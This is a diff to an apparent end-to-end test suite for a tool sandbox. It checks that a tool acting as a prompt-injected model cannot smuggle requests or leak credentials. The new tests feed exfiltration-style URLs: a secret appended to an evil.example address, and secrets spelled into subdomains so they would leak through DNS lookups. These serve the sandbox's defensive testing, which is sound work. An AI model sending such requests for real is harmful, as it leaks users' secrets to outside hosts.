@@ -11,7 +11,7 @@ import subprocess
 import threading
 import time
 
-from harness import BIN, Server, ServerTestCase, main
+from harness import BIN, Server, ServerTestCase, main, read_audit
 
 TOOLS_DIR = os.environ.get("CLAWBOX_E2E_TOOLS", "build/tools/wasm")
 HOSTILE_DIR = os.environ.get("CLAWBOX_E2E_HOSTILE", "build/tests/fixtures")
@@ -20,6 +20,7 @@ CACHE_DIR = os.environ.get("CLAWBOX_E2E_CACHE", "/tmp/clawbox-e2e-cache")
 
 MASTER_KEY = "22" * 32
 SECRET = "victim-api-key-5b7e0c9d2a41f386"
+MIXED = "Zx9QpL4mN7vB2cR8tY6wKd3H"  # a secret with upper-case letters
 
 
 def valid_utf8(b):
@@ -197,11 +198,13 @@ class RawUpstream:
             c.close()
 
 
-class SmugglingTests(ServerTestCase):
-    """One tool's parameters must never frame another tool's request on a
-    shared upstream connection. `http_request` is the attacker, with
-    parameters a prompt-injected model could choose; `victim` is the same
-    module under another name, granted a credential for the upstream."""
+class ProxyAttackTests(ServerTestCase):
+    """`http_request` is the attacker, with parameters a prompt-injected
+    model could choose; `victim` is the same module under another name,
+    granted a credential for the upstream. One tool's parameters must never
+    frame another tool's request on a shared upstream connection, and a
+    secret a tool tries to send never reaches the audit log or a DNS
+    query."""
 
     @classmethod
     def setUpClass(cls):
@@ -218,15 +221,17 @@ class SmugglingTests(ServerTestCase):
             text = f.read().replace("[sandbox]\n", f'[sandbox]\ncache_dir = "{CACHE_DIR}"\n', 1)
         with open(server.config_path, "w") as f:
             f.write(text + f'[credentials]\nstore_path = "{server.dir}/credentials.enc"\n')
-        subprocess.run([BIN, "creds", "--config", server.config_path, "add", "--name", "api",
-                        "--domain", "127.0.0.1", "--header", "X-Api-Key"],
-                       input=SECRET, text=True, check=True, timeout=30,
-                       env=dict(server.env, CLAWBOX_MASTER_KEY=MASTER_KEY))
+        for name, value in (("api", SECRET), ("mixed", MIXED)):
+            subprocess.run([BIN, "creds", "--config", server.config_path, "add", "--name", name,
+                            "--domain", "127.0.0.1", "--header", "X-Api-Key"],
+                           input=value, text=True, check=True, timeout=30,
+                           env=dict(server.env, CLAWBOX_MASTER_KEY=MASTER_KEY))
         cls.server = server.start()
         for name, creds in (("http_request", None), ("victim", {"available": ["api"]})):
-            manifest = {"tool": {"name": name, "description": "smuggling test",
+            manifest = {"tool": {"name": name, "description": "proxy attack test",
                                  "version": "0.1.0"},
-                        "network": {"allowlist": ["127.0.0.1"]}, "credentials": creds}
+                        "network": {"allowlist": ["127.0.0.1", "*.allowed.example"]},
+                        "credentials": creds}
             r = server.request("POST", "/tools/register", manifest)
             assert r.status in (200, 201), r.body
 
@@ -335,6 +340,40 @@ class SmugglingTests(ServerTestCase):
         # A tool still reuses its own connections.
         self.assertEqual(conn["/shared-victim-1"], conn["/shared-victim-2"])
         self.assertEqual(conn["/shared-attacker"], conn["/shared-attacker-2"])
+
+    def proxy_audit(self):
+        lines, blob = read_audit(os.path.join(self.server.dir, "audit"))
+        return [x for x in lines if x.get("kind") == "proxy"], blob
+
+    def test_secret_in_a_refused_url_is_not_written_to_the_audit_log(self):
+        urls = ["http://evil.example/" + SECRET, f"{self.base}/p/{SECRET}?q={SECRET}#{SECRET}",
+                f"{self.base}/p/{MIXED}", f"http://{SECRET}.allowed.example/",
+                f"http://{MIXED}.allowed.example/", f"http://evil.example/{SECRET}:{SECRET}"]
+        for url in urls:
+            with self.subTest(url=url):
+                out = self.call("http_request", {"url": url})
+                self.assertIn("error", out)
+        out = self.call("http_request", {"url": self.base + "/m", "method": "X" + MIXED})
+        self.assertIn("error", out)
+        lines, blob = self.proxy_audit()
+        self.assertGreaterEqual(len(lines), len(urls))
+        for secret in (SECRET, MIXED):
+            self.assertNotIn(secret.encode(), blob)
+        self.assertIn(b"[REDACTED]", blob)
+
+    def test_secret_in_a_host_name_is_refused_before_any_lookup(self):
+        # Under *.allowed.example a secret spelled into a host name would
+        # reach a DNS server; it is refused as a leak instead (a lookup
+        # would have failed with "cannot resolve": these machines have no
+        # DNS for that name).
+        for host in (f"{SECRET}.allowed.example", f"{MIXED}.allowed.example",
+                     f"x.{SECRET.upper()}.allowed.example"):
+            with self.subTest(host=host):
+                out = self.call("http_request", {"url": f"http://{host}/"})
+                self.assertIn("contains a credential", out.get("error", ""), out)
+        lines, _ = self.proxy_audit()
+        self.assertEqual([x["decision"] for x in lines[-3:]], ["leak_blocked"] * 3)
+        self.assert_healthy()
 
     def test_connect_method_is_refused(self):
         out = self.call("http_request", {"url": self.base + "/a", "method": "CONNECT"})
